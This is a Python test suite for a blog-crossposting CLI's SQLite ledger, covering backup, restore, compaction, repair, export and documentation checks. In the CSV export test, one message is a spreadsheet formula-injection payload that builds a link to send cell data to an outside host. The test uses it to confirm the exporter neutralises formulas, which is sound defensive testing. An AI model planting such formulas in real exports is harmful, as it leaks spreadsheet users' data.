"""Data for years: copies and their return, what is forgotten, repair, rows for other programs,
another machine, and tables that are what the page says."""

import copy
import csv
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from blogs import Blog, Message
from click.testing import CliRunner, Result
from filelock import FileLock
from memory import memory_folder

from crosspost.cli import group
from crosspost.cli._common import housekeeper
from crosspost.config import load
from crosspost.ledger import Ledger, schema
from crosspost.model import Post

DOCS = Path(__file__).parents[1] / "docs"
AD = "Реклама. ООО «Мука», erid: 2VtzqwErTy5"


def message(number: int, text: str, **more: Any) -> Message:
    return {
        "id": number,
        "type": "message",
        "date_unixtime": str(1_746_000_000 + 3600 * number),
        "text": text,
        "text_entities": [{"type": "plain", "text": text}],
    } | more


def posts(*numbers: int) -> list[Message]:
    return [message(n, f"Пост {n}\n\nТекст поста {n}.") for n in numbers]


@pytest.fixture(scope="module")
def mirrored() -> Iterator[Blog]:
    with memory_folder() as folder:
        made = Blog(folder / "blog")
        made.write(*posts(1, 2, 3), message(4, AD))
        made.sync()
        yield made


@pytest.fixture
def blog(mirrored: Blog) -> Iterator[Blog]:
    """A blog of three posts and one that waits, mirrored."""
    with memory_folder() as folder:
        shutil.copytree(mirrored.root, folder / "blog")
        yield replace(mirrored, folder / "blog")


def replace(blog: Blog, root: Path) -> Blog:
    """The same blog, in another folder, where it is already."""
    moved = copy.copy(blog)
    moved.root = root
    return moved


def run(blog: Blog, *words: str, code: int = 0) -> Result:
    config = str(blog.root / "crosspost.toml")
    result = CliRunner().invoke(group, ["--config", config, *words])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    return result


def ledger_of(blog: Blog) -> Path:
    return blog.root / "ledger.db"


def dumped(path: Path, *, doubtful: bool = False) -> list[str]:
    """All that is in it, as SQL; ``doubtful``: as after its return, when what was sent since is not
    known."""
    source, db = sqlite3.connect(path), sqlite3.connect(":memory:")
    try:
        source.backup(db)
        if doubtful:
            db.execute("UPDATE delivery SET sending = 'restored' WHERE digest != ''")
        return list(db.iterdump())
    finally:
        source.close()
        db.close()


# --- backup ---


def test_a_backup_is_the_ledger_and_its_owners_alone(blog: Blog, tmp_path: Path) -> None:
    saved = tmp_path / "copy.db"
    assert run(blog, "backup", str(saved)).stdout == f"Wrote {saved}.\n"
    assert dumped(saved) == dumped(ledger_of(blog))
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert sorted(one.name for one in tmp_path.iterdir()) == ["copy.db"]


def test_a_backup_replaces_nothing_unless_told_to(blog: Blog, tmp_path: Path) -> None:
    other = tmp_path / "notes.txt"
    other.write_text("dear diary")
    assert (
        "is there already; to replace it: --force" in run(blog, "backup", str(other), code=1).output
    )
    assert other.read_text() == "dear diary"
    run(blog, "backup", "--force", str(other))
    assert other.read_bytes().startswith(b"SQLite format 3\0")
    told = run(blog, "backup", "--force", str(ledger_of(blog)), code=1).output
    assert "is the ledger itself" in told


def test_a_folder_of_backups_keeps_the_newest(blog: Blog, tmp_path: Path) -> None:
    folder = tmp_path / "copies"
    folder.mkdir()
    old = [folder / f"ledger-2024010{n}T000000Z.db" for n in range(1, 5)]
    for one in old:
        one.touch()
    (folder / "ledger-of-my-own.db").touch()
    told = json.loads(run(blog, "backup", str(folder), "--keep", "3", "--json").stdout)
    assert told["dropped"] == [str(old[0]), str(old[1])]
    assert told["bytes"] == Path(told["file"]).stat().st_size > 0
    assert len(list(folder.iterdir())) == 4
    assert "is for a folder" in run(blog, "backup", "x.db", "--keep", "3", code=2).output


def test_a_backup_that_cannot_be_written_is_a_sentence(blog: Blog, tmp_path: Path) -> None:
    told = run(blog, "backup", str(tmp_path / "none" / "copy.db"), code=1).output
    assert "copy.db cannot be written: No such file or directory" in told
    ledger_of(blog).unlink()
    told = run(blog, "backup", str(tmp_path / "copy.db"), code=6).output
    assert "There is no ledger at" in told
    assert not ledger_of(blog).exists()


def test_a_damaged_ledger_does_not_push_out_its_good_copies(blog: Blog, tmp_path: Path) -> None:
    run(blog, "backup", str(tmp_path), "--keep", "1")
    (good,) = tmp_path.iterdir()
    good.rename(good.with_name("ledger-20240101T000000Z.db"))
    damaged(ledger_of(blog))
    told = run(blog, "backup", str(tmp_path), "--keep", "1", code=6).output
    assert "damaged" in told
    assert [one.name for one in tmp_path.iterdir()] == ["ledger-20240101T000000Z.db"]


def test_a_backup_beside_a_run_that_writes_is_of_one_moment(blog: Blog, tmp_path: Path) -> None:
    done = threading.Event()

    def write() -> None:
        """Two tables that always have the same number of rows, as far as anybody can see."""
        with Ledger.open(ledger_of(blog)) as ledger:
            for number in range(1, 100_000):
                if done.is_set():
                    return
                with ledger.transaction():
                    ledger.tell("x", number, "", "one", "a" * 500)
                    ledger.set_cursor("x", "r", f"s{number}", "v" * 500)

    writer = threading.Thread(target=write)
    writer.start()
    try:
        for number in range(8):
            run(blog, "backup", str(tmp_path / f"{number}.db"))
    finally:
        done.set()
        writer.join()
    seen = set()
    for number in range(8):
        db = sqlite3.connect(tmp_path / f"{number}.db")
        (events,) = db.execute("SELECT count(*) FROM event WHERE blog = 'x'").fetchone()
        (cursors,) = db.execute("SELECT count(*) FROM cursor WHERE blog = 'x'").fetchone()
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        db.close()
        assert events == cursors
        seen.add(events)
    assert len(seen) > 1


# --- restore ---


def test_a_restored_ledger_makes_no_double_and_loses_nothing(blog: Blog, tmp_path: Path) -> None:
    saved = tmp_path / "copy.db"
    run(blog, "backup", str(saved))
    blog.write(*posts(1, 2), message(3, "Пост 3\n\nИсправлен."), message(4, AD), *posts(5, 6))
    blog.sync()
    after = dumped(ledger_of(blog))
    told = json.loads(run(blog, "restore", str(saved), "--json").stdout)
    assert dumped(ledger_of(blog)) == dumped(saved, doubtful=True)
    assert dumped(Path(told["kept"])) == after
    assert stat.S_IMODE(Path(told["kept"]).stat().st_mode) == 0o600
    told = blog.run("sync", "-v").text
    assert told.count("created: b/") == 2
    assert "updated: b/3" in told
    assert "conflict" not in run(blog, "status").output
    assert blog.posts == [1, 2, 3, 5, 6]
    assert "Исправлен." in blog.page(3)
    blog.unchanged()


def test_each_ledger_that_was_replaced_is_kept(blog: Blog, tmp_path: Path) -> None:
    saved = tmp_path / "saved.db"
    run(blog, "backup", str(saved))
    kept = {json.loads(run(blog, "restore", str(saved), "--json").stdout)["kept"] for _ in range(3)}
    assert len(kept) == 3


def test_after_a_restore_an_editors_hand_still_counts(blog: Blog, tmp_path: Path) -> None:
    saved = tmp_path / "copy.db"
    run(blog, "backup", str(saved))
    page = blog.page_of(3)
    assert page
    page.write_text(page.read_text("utf-8").replace("Текст поста 3", "Слово редактора"), "utf-8")
    blog.write(*posts(1, 2), message(3, "Пост 3\n\nИсправлен."), message(4, AD))
    run(blog, "restore", str(saved))
    assert "held: b/3" in blog.sync().text
    assert "Слово редактора" in blog.page(3)


def test_a_ledger_that_is_open_elsewhere_is_restored_for_all(blog: Blog, tmp_path: Path) -> None:
    saved = tmp_path / "copy.db"
    run(blog, "backup", str(saved))
    with Ledger.open(ledger_of(blog)) as watching:
        watching.tell("b", 1, "", "a line", "")
        run(blog, "restore", str(saved))
        assert "a line" not in [event.what for event in watching.history("b", 1)]
        watching.tell("b", 1, "", "another", "")
    with Ledger.open(ledger_of(blog)) as ledger:
        assert [event.what for event in ledger.history("b", 1)][-1] == "another"
        assert ledger.faults() == []


def no_database(path: Path) -> None:
    path.write_bytes(b"no database at all " * 500)


def empty(path: Path) -> None:
    path.write_bytes(b"")


def another_database(path: Path) -> None:
    path.unlink()
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE post (id)")
    db.commit()
    db.close()


def newer(path: Path) -> None:
    db = sqlite3.connect(path)
    db.execute(f"PRAGMA user_version = {schema.VERSION + 1}")
    db.commit()
    db.close()


def damaged(path: Path) -> None:
    """The root page of the deliveries is gone."""
    db = sqlite3.connect(path)
    (page,) = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'delivery'").fetchone()
    (size,) = db.execute("PRAGMA page_size").fetchone()
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    with path.open("r+b") as file:
        file.seek((page - 1) * size)
        file.write(b"\xff" * size)


def cut(path: Path) -> None:
    with path.open("r+b") as file:
        file.truncate(path.stat().st_size // 2)


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (no_database, "is no ledger, or is damaged"),
        (empty, "is a SQLite file, but no ledger of Crosspost"),
        (another_database, "is a SQLite file, but no ledger of Crosspost"),
        (newer, "was written by a newer Crosspost"),
        (damaged, "is damaged"),
        (cut, "damaged"),
        (Path.unlink, "There is no file"),
    ],
)
def test_what_is_no_sound_ledger_is_not_restored(
    blog: Blog, tmp_path: Path, spoil: Any, said: str
) -> None:
    saved = tmp_path / "copy.db"
    run(blog, "backup", str(saved))
    spoil(saved)
    before, files = dumped(ledger_of(blog)), sorted(blog.root.iterdir())
    assert said in run(blog, "restore", str(saved), code=6).output
    assert dumped(ledger_of(blog)) == before
    assert sorted(blog.root.iterdir()) == files


def test_the_ledger_is_not_restored_from_itself_or_under_a_run(blog: Blog, tmp_path: Path) -> None:
    told = run(blog, "restore", str(ledger_of(blog)), code=6).output
    assert "is the ledger itself" in told
    run(blog, "backup", str(tmp_path / "copy.db"))
    with FileLock(blog.root / ".ledger.db.b.lock"):
        told = run(blog, "restore", str(tmp_path / "copy.db"), code=5).output
    assert "Another run holds the blog «b»" in told


@pytest.mark.parametrize("spoil", [no_database, damaged, cut, empty, Path.unlink])
def test_a_ledger_beyond_repair_is_restored_and_kept_as_it_lies(
    blog: Blog, tmp_path: Path, spoil: Any
) -> None:
    saved = tmp_path / "copy.db"
    run(blog, "backup", str(saved))
    spoil(ledger_of(blog))
    there = ledger_of(blog).exists()
    told = json.loads(run(blog, "restore", str(saved), "--json").stdout)
    assert bool(told["kept"]) is there
    assert dumped(ledger_of(blog)) == dumped(saved, doubtful=True)
    blog.unchanged()


@contextmanager
def crosspost_of(version: int) -> Iterator[None]:
    """The program as it was when the ledger had this version, as far as its tables go."""
    known = schema.MIGRATIONS, schema.VERSION
    try:
        schema.MIGRATIONS, schema.VERSION = known[0][:version], version  # type: ignore[misc]
        yield
    finally:
        schema.MIGRATIONS, schema.VERSION = known  # type: ignore[misc]


def version_of(path: Path) -> int:
    db = sqlite3.connect(path)
    (version,) = db.execute("PRAGMA user_version").fetchone()
    db.close()
    assert isinstance(version, int)
    return version


def test_an_older_ledger_is_restored_and_brought_up_to_date(blog: Blog, tmp_path: Path) -> None:
    old = tmp_path / "old.db"
    with crosspost_of(4):
        Ledger.open(old).close()
    run(blog, "restore", str(old))
    assert version_of(ledger_of(blog)) == schema.VERSION
    blog.sync()
    assert blog.posts == [1, 2, 3]


def test_after_an_update_there_is_a_way_back(tmp_path: Path) -> None:
    blog = Blog(tmp_path / "blog")
    with crosspost_of(4), Ledger.open(ledger_of(blog)) as ledger:
        ledger.set_cursor("b", "r", "s", "as it was")
    kept = ledger_of(blog).with_name("ledger.db.v4")
    assert not kept.exists()
    Ledger.open(ledger_of(blog)).close()
    assert (version_of(kept), version_of(ledger_of(blog))) == (4, schema.VERSION)
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    with crosspost_of(4):
        assert "was written by a newer Crosspost" in run(blog, "status", code=6).output
        run(blog, "restore", str(kept))
        with Ledger.open(ledger_of(blog)) as ledger:
            assert ledger.cursor("b", "r", "s") == "as it was"


# --- Another machine ---


def test_moving_to_another_machine_is_copying_one_file(blog: Blog, tmp_path: Path) -> None:
    there = tmp_path / "elsewhere"
    there.mkdir()
    run(blog, "backup", str(there / "ledger.db"))
    for name in ("crosspost.toml", "channel", "public"):
        here = blog.root / name
        (shutil.copytree if here.is_dir() else shutil.copy2)(here, there / name)
    shutil.rmtree(blog.root)
    replace(blog, there).unchanged()


# --- compact ---


def later(blog: Blog, days: int) -> Ledger:
    """The ledger, so many days from now."""
    moment = datetime.now(UTC) + timedelta(days=days)
    return Ledger.open(ledger_of(blog), clock=lambda: moment)


def test_what_is_old_is_forgotten_and_the_last_run_is_not(blog: Blog) -> None:
    with later(blog, -800) as ledger:
        for _ in range(3):
            ledger.begin("b", "sync")
            ledger.tell("b", 1, "", "long ago", "")
            ledger.end(0, "")
    with Ledger.open(ledger_of(blog)) as ledger:
        ledger.begin("b", "sync")
        ledger.end(0, "")
        before = len(ledger.runs("b", 100))
    told = json.loads(run(blog, "compact", "--json").stdout)
    assert (told["runs"], told["events"]) == (3, 3)
    with Ledger.open(ledger_of(blog)) as ledger:
        assert len(ledger.runs("b", 100)) == before - 3
        assert ledger.history("b", 1)
    blog.unchanged()


def test_a_clock_that_is_years_ahead_forgets_nothing(blog: Blog) -> None:
    with later(blog, 5000) as ledger:
        gone = ledger.forget(ledger.clock() - timedelta(days=730), None)
        assert (gone.runs, gone.events) == (0, 0)


def test_the_file_shrinks_and_what_was_deleted_is_not_in_it(blog: Blog) -> None:
    with later(blog, -800) as ledger, ledger.transaction():
        for number in range(2000):
            ledger.tell("b", number, "", "x", "Тайна" * 40)
    told = json.loads(run(blog, "compact", "--json").stdout)
    assert told["events"] == 2000
    assert told["bytes"] < told["bytes_before"] / 2
    assert "Тайна".encode() not in ledger_of(blog).read_bytes()


def forgetful(blog: Blog, *lines: str) -> None:
    text = (blog.root / "crosspost.toml").read_text("utf-8")
    (blog.root / "crosspost.toml").write_text("\n".join([*lines, text]), "utf-8")


def test_a_deleted_post_is_forgotten_when_nothing_of_it_is_public(blog: Blog) -> None:
    forgetful(blog, "keep_deleted = '90d'")
    blog.write(*posts(1, 3), message(4, AD))
    blog.sync()
    for days, emptied in ((80, 0), (100, 1)):
        with later(blog, days) as ledger:
            gone = ledger.forget(
                ledger.clock() - timedelta(days=730), ledger.clock() - timedelta(days=90)
            )
            assert gone.posts == emptied
    with Ledger.open(ledger_of(blog)) as ledger:
        stored = ledger.post("b", 2)
        assert stored
        assert stored.gone == "gone"
        assert stored.post == Post(
            id=2, ids=(2,), date=stored.post.date, channel_id=stored.post.channel_id,
            url=stored.post.url,
        )  # fmt: skip
        assert ledger.faults() == []
    run(blog, "compact")
    assert "Текст поста 2" not in ledger_of(blog).read_bytes().decode(errors="replace")
    blog.unchanged()
    assert "2" in run(blog, "show", "2").stdout


def test_a_forgotten_post_that_comes_back_is_whole(blog: Blog) -> None:
    blog.write(*posts(1, 3), message(4, AD))
    blog.sync()
    with later(blog, 100) as ledger:
        ledger.forget(ledger.clock(), ledger.clock() - timedelta(days=90))
    blog.write(*posts(1, 2, 3), message(4, AD))
    blog.sync()
    assert blog.posts == [1, 2, 3]
    assert "Текст поста 2." in blog.page(2)


def test_a_deleted_post_whose_article_stays_public_is_kept(blog: Blog) -> None:
    blog.settings = "on_delete = 'keep'"
    blog.configure()
    blog.write(*posts(1, 3), message(4, AD))
    blog.sync()
    with later(blog, 100) as ledger:
        assert ledger.forget(ledger.clock(), ledger.clock()).posts == 0


def test_only_old_files_that_crosspost_made_leave_the_cache(blog: Blog, tmp_path: Path) -> None:
    cache = blog.root / "cache" / "b"
    made = {
        "0123456789abcdef0123456789abcdef.jpg": True,  # a clean picture
        "clean/0123456789abcdef0123456789abcdef.webp": True,
        "12-0-0123456789abcdef.mp4": True,  # a download
        "12-0-0123456789ab.jpg": True,
        ".part-abc123": True,  # a download that was cut
        "channel.json": False,
        "clean/fedcba9876543210fedcba9876543210.jpg": False,  # the channel's photo, see below
        "holiday.jpg": False,
        "clean/notes.txt": False,
    }
    outside = tmp_path / "fedcba9876543210fedcba9876543210.jpg"
    outside.write_text("x")
    for name in made:
        (cache / name).parent.mkdir(parents=True, exist_ok=True)
        (cache / name).write_text("x" * 100)
    (cache / "portrait").write_text("fedcba9876543210fedcba9876543210.jpg")
    (cache / "new-0123456789abcdef.jpg").write_text("x")
    (cache / "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.jpg").symlink_to(outside)
    for path in [outside, *(cache / name for name in made)]:
        os.utime(path, (1_000_000_000, 1_000_000_000))
    before = {one for one in cache.rglob("*") if one.is_file()}
    told = json.loads(run(blog, "compact", "--json").stdout)
    gone = before - {one for one in cache.rglob("*") if one.is_file()}
    assert {str(one.relative_to(cache)) for one in gone} == {n for n, old in made.items() if old}
    assert (told["files"], told["freed"], told["notes"]) == (5, 500, [])
    assert outside.exists()


def test_a_run_keeps_house_once_a_week_and_only_when_it_did_something(blog: Blog) -> None:
    def cleanings() -> int:
        with Ledger.open(ledger_of(blog)) as ledger:
            return len([one for one in ledger.runs("", 100) if one.command == "compact"])

    assert cleanings() == 1
    blog.write(*posts(1, 2, 3, 5), message(4, AD))
    blog.sync()
    assert cleanings() == 1
    db = sqlite3.connect(ledger_of(blog))
    db.execute("UPDATE run SET started_at = '2020-01-01T00:00:00Z' WHERE command = 'compact'")
    db.commit()
    db.close()
    blog.unchanged()
    assert cleanings() == 1
    blog.write(*posts(1, 2, 3, 5, 6), message(4, AD))
    blog.sync()
    assert cleanings() == 2
    blog.unchanged()


def test_a_program_that_runs_for_months_keeps_house_too(
    blog: Blog, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = sqlite3.connect(ledger_of(blog))
    db.execute("DELETE FROM run WHERE command = 'compact'")
    db.commit()
    db.close()
    clock = [0.0]
    monkeypatch.setattr("crosspost.cli._common.time.monotonic", lambda: clock[-1])
    look = housekeeper(load(blog.root / "crosspost.toml"))
    for seconds, cleanings in ((1000, 0), (3700, 1), (7300, 1)):
        clock.append(seconds)
        look()
        with Ledger.open(ledger_of(blog)) as ledger:
            assert len(ledger.runs("", 100)) == cleanings


# --- check, repair ---


def test_a_sound_ledger_is_called_so(blog: Blog) -> None:
    assert run(blog, "compact", "--check").stdout == f"{ledger_of(blog)} is sound.\n"
    assert run(blog, "compact", "--check", "-q").output == ""
    told = json.loads(run(blog, "compact", "--check", "--json").stdout)
    assert told == {"ledger": str(ledger_of(blog)), "sound": True, "faults": []}
    assert json.loads(run(blog, "compact", "--repair", "--json").stdout)["repaired"] == []
    assert "--check or --repair" in run(blog, "compact", "--check", "--repair", code=2).output


def change(blog: Blog, *statements: str) -> None:
    db = sqlite3.connect(ledger_of(blog))
    for statement in statements:
        db.execute(statement)
    db.commit()
    db.close()


@pytest.mark.parametrize(
    ("statement", "said"),
    [
        ("UPDATE post SET data = '{' WHERE id = 2", "b/2: what was stored of it cannot be read"),
        ("DELETE FROM post WHERE id = 2; due", "b/2 → local: its post is not there"),
        (
            "UPDATE delivery SET state = 'odd' WHERE post_id = 2",
            "b/2 → local: there is no state «odd»",
        ),
    ],
)
def test_what_is_wrong_in_the_ledger_is_told_and_put_right(
    blog: Blog, statement: str, said: str
) -> None:
    first, _, also = statement.partition("; ")
    change(blog, first, *(["UPDATE delivery SET due = 1 WHERE post_id = 2"] if also else []))
    told = run(blog, "compact", "--check", code=6).output
    assert said in told
    assert "To put it right: crosspost compact --repair" in told
    assert json.loads(run(blog, "compact", "--check", "--json", code=6).stdout)["faults"]
    assert f"repaired: {said}\n" in run(blog, "compact", "--repair").stdout
    run(blog, "compact", "--check")
    blog.sync()
    assert blog.posts == [1, 2, 3]
    blog.unchanged()


def test_a_damaged_index_is_made_anew(blog: Blog) -> None:
    db = sqlite3.connect(ledger_of(blog))
    (page,) = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'run_of'").fetchone()
    (size,) = db.execute("PRAGMA page_size").fetchone()
    db.close()
    with ledger_of(blog).open("r+b") as file:
        file.seek((page - 1) * size)
        file.write(b"\x0a" + b"\0" * 7 + b"\0" * (size - 8))
    assert "The file is damaged" in run(blog, "compact", "--check", code=6).output
    told = json.loads(run(blog, "compact", "--repair", "--json").stdout)
    assert told["repaired"]
    run(blog, "compact", "--check")
    blog.unchanged()


@pytest.mark.parametrize("table", ["delivery", "post", "event"])
def test_a_damaged_file_gives_what_can_be_read_and_the_next_run_the_rest(
    blog: Blog, table: str
) -> None:
    blog.write(*posts(*range(1, 30)), message(104, AD))
    blog.sync()
    db = sqlite3.connect(ledger_of(blog))
    (page,) = db.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()
    (size,) = db.execute("PRAGMA page_size").fetchone()
    db.close()
    with ledger_of(blog).open("r+b") as file:
        file.seek((page - 1) * size)
        file.write(b"\xff" * size)
    with Ledger.open(ledger_of(blog)) as watching:
        told = json.loads(run(blog, "compact", "--repair", "--json").stdout)
        assert watching.faults() == []
    assert told["repaired"]
    assert Path(told["kept"]).is_file()
    run(blog, "compact", "--check")
    blog.sync()
    assert blog.posts == [*range(1, 30)]
    with Ledger.open(ledger_of(blog)) as ledger:
        assert ledger.targets("b")[0].counts["live"] == 29
    blog.unchanged()


# --- export ---


def rows_of(blog: Blog, *words: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in run(blog, "export", *words).stdout.splitlines()]


def test_rows_are_what_the_ledger_holds(blog: Blog) -> None:
    told = rows_of(blog, "posts")
    assert [one["id"] for one in told] == [1, 2, 3, 4]
    assert told[0]["post"]["text"] == "Пост 1\n\nТекст поста 1."
    deliveries = rows_of(blog, "deliveries", "b")
    assert [(one["state"], one["due"]) for one in deliveries[2:]] == [
        ("live", False),
        ("held", False),
    ]
    assert rows_of(blog, "runs")[0]["command"] == "sync"
    assert {one["what"] for one in rows_of(blog, "history")} == {"created", "held"}
    assert "has no blog «other»" in run(blog, "export", "posts", "other", code=2).output


def test_a_table_for_a_spreadsheet_holds_no_formula(blog: Blog, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x/?"&A1,"жми")'
    blog.write(*posts(1, 2, 3), message(4, AD), message(5, evil), message(6, "+7 900\n-1\r\n@x"))
    blog.sync()
    file = tmp_path / "posts.csv"
    told = run(blog, "export", "posts", "--format", "csv", "-o", str(file)).stdout
    assert told == f"Wrote 6 rows to {file}.\n"
    table = list(csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8"), newline="")))
    assert len(table) == 6
    assert table[4]["text"] == f"'{evil}"
    assert table[5]["text"].startswith("'+7 900\n-1")
    assert all(cell[:1] not in ("=", "+", "-", "@") for row in table for cell in row.values())
    assert table[0]["media"] == "0"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


def test_rows_into_a_file_appear_whole_or_not_at_all(blog: Blog, tmp_path: Path) -> None:
    told = run(blog, "export", "posts", "-o", str(tmp_path / "no" / "x.jsonl"), code=1).output
    assert "x.jsonl cannot be written" in told
    answer = run(blog, "export", "posts", "--json", "-o", str(tmp_path / "x.jsonl")).stdout
    assert json.loads(answer) == {"file": str(tmp_path / "x.jsonl"), "rows": 4}
    assert "--json needs -o FILE" in run(blog, "export", "posts", "--json", code=2).output


def test_rows_come_one_by_one_and_whoever_has_heard_enough_may_leave(blog: Blog) -> None:
    config = str(blog.root / "crosspost.toml")
    with Ledger.open(ledger_of(blog)) as ledger, ledger.transaction():
        for number in range(20_000):
            ledger.tell("b", number, "", "x", "y" * 200)
    words = [sys.executable, "-m", "crosspost", "-c", config, "export", "history"]
    with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as reading:
        assert reading.stdout
        assert reading.stderr
        assert reading.stdout.readline().startswith(b"{")
        reading.stdout.close()
        assert b"Traceback" not in reading.stderr.read()
        reading.wait(20)


# --- docs/ledger.md ---


def test_every_table_and_column_is_explained_and_none_is_made_up(blog: Blog) -> None:
    page = (DOCS / "ledger.md").read_text("utf-8")
    told = re.findall(r"^\| `(\w+)` \| `(\w+)` \| .{3,} \|$", page, re.MULTILINE)
    db = sqlite3.connect(ledger_of(blog))
    there = [
        (table, column[1])
        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        if not table.startswith(("_", "sqlite_"))
        for column in db.execute(f"PRAGMA table_info({table})")
    ]
    db.close()
    assert sorted(told) == sorted(there), "say in docs/ledger.md what each column is"


def test_the_sql_on_the_page_gives_rows(blog: Blog) -> None:
    page = (DOCS / "ledger.md").read_text("utf-8")
    examples = re.findall(r"^```sql\n(.*?)^```$", page, re.MULTILINE | re.DOTALL)
    assert len(examples) == 5
    db = sqlite3.connect(f"{ledger_of(blog).as_uri()}?mode=ro", uri=True)
    for example in examples:
        asked = example.replace("'business'", "'b'").replace("= 12", "= 2")
        assert db.execute(asked).fetchall(), example
    db.close()
